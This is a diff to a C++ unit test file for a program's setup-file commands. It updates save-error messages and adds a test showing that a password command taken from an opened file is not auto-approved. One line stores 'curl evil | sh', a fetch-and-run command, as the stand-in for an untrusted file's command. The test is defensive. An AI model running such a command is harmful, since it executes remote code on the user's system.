@@ -1,6 +1,8 @@
 #include "setup/FileCommands.h"
+#include "setup/CommandApproval.h"
 #include "setup/SetupFile.h"
 #include "support/RecordingUserInterface.h"
+#include "support/ScopedEnvironment.h"
 #include "support/TempDir.h"
 
 #include <gtest/gtest.h>
@@ -8,6 +10,7 @@
 using namespace turnpost;
 using turnpost::test::ReadFileBytes;
 using turnpost::test::RecordingUserInterface;
+using turnpost::test::ScopedEnvironment;
 using turnpost::test::TempDir;
 
 namespace {
@@ -219,7 +222,8 @@ TEST(FileCommands, FailedSavesKeepPathCaptionAndModified)
     EXPECT_EQ(document.Modified, 1);
     EXPECT_TRUE(ui.Captions.empty());
     ASSERT_EQ(ui.Messages.size(), 2u);
-    EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved!");
+    EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved! (" +
+                                       dir.File("missing/other.tpf") + ": No such file or directory)");
 }
 
 TEST(FileCommands, OpenOfAMissingFileKeepsTheSetupButClearsModified)
@@ -269,6 +273,42 @@ TEST(FileCommands, YesWithAFailedSaveStopsTheCommandAndKeepsTheEdits)
         EXPECT_EQ(document.Setup.GameName, "Edited");
         EXPECT_EQ(document.Modified, 1);
         ASSERT_EQ(ui.Messages.size(), 4u);
-        EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved!");
+        EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved! (" + unwritable +
+                                           ": No such file or directory)");
     }
+}
+
+TEST(FileCommands, SavingATypedPasswordCommandApprovesItForThatFile)
+{
+    TempDir dir;
+    ScopedEnvironment config("XDG_CONFIG_HOME", dir.File("config"));
+    const std::string saved = dir.File("game.tpf");
+    GameDocument document = EditedDocument();
+    document.Setup.SmtpPasswordCommand = "pass show mail";
+    RecordingUserInterface ui(&document);
+    ui.FillRows();
+    ui.FileChoices.push_back(saved);
+    FileSaveAs(document, ui);
+    EXPECT_TRUE(IsCommandApproved(saved, "pass show mail"));
+    EXPECT_EQ(document.PasswordCommandFromFile, "pass show mail");
+
+    // Read from a file, the same command is not the user's own work: Save As elsewhere does not approve
+    // it there, while a change typed before Save does.
+    const std::string copy = dir.File("copy.tpf");
+    ui.FileChoices.push_back(copy);
+    FileSaveAs(document, ui);
+    EXPECT_FALSE(IsCommandApproved(copy, "pass show mail"));
+    document.Setup.SmtpPasswordCommand = "pass show other";
+    EXPECT_TRUE(FileSave(document, ui));
+    EXPECT_TRUE(IsCommandApproved(copy, "pass show other"));
+
+    // A file opened is not approved by the opening.
+    GameSetup foreign;
+    foreign.SmtpPasswordCommand = "curl evil | sh";
+    const std::string posted = dir.File("posted.tpf");
+    ASSERT_TRUE(WriteSetupFile(posted, foreign, ui));
+    ASSERT_TRUE(ReadSetupFile(posted, document, ui));
+    EXPECT_EQ(document.PasswordCommandFromFile, "curl evil | sh");
+    EXPECT_TRUE(FileSave(document, ui));
+    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh"));
 }
